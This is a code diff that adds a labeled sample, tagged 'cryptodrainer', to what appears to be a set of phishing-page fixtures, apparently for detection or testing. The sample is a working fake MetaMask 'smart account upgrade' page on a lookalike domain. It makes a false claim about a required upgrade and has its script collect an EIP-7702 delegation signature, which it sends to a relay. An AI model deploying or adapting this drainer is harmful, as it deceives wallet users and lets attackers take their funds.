@@ -146,4 +146,24 @@ document.getElementById('s').textContent='Claim pending…'};
   }),
 },
 
+{
+  id: 'd-drain-eip7702-delegate-upgrade',
+  label: 'cryptodrainer',
+  kind: 'drainer-delegation',
+  url: 'https://smart-account-upgrade.metamask-pectra.com/upgrade',
+  body: doc({
+    title: 'Upgrade to a Smart Account',
+    css: baseCss('#f6851b') + `.u{max-width:520px;margin:60px auto}`,
+    body: `<div class="u card"><img src="images/metamask-fox.svg" alt="MetaMask" width="56"><h1 style="font-size:22px">Upgrade your account to a Smart Account</h1><p>After the Pectra upgrade, all externally owned accounts must be upgraded to keep sending transactions with lower fees and batching. It takes one signature and is free.</p><button class="btn btn-block" id="u">Upgrade now</button><p class="muted" id="m"></p></div>
+<script>
+const IMPL='0x89aC1f0eD7B23c4e9A05f6B1d8C3e2A7b4F0d915';
+document.getElementById('u').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});
+const nonce=await ethereum.request({method:'eth_getTransactionCount',params:[a,'pending']});
+const auth={chainId:'0x1',address:IMPL,nonce};
+const sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({types:{EIP712Domain:[{name:'name',type:'string'}],Authorization:[{name:'chainId',type:'uint256'},{name:'address',type:'address'},{name:'nonce',type:'uint256'}]},domain:{name:'Delegation'},primaryType:'Authorization',message:auth})]});
+await fetch('/api/relay-7702',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a,auth,sig})});document.getElementById('m').textContent='Upgrade scheduled.'};
+</script>`,
+  }),
+},
+
 ];
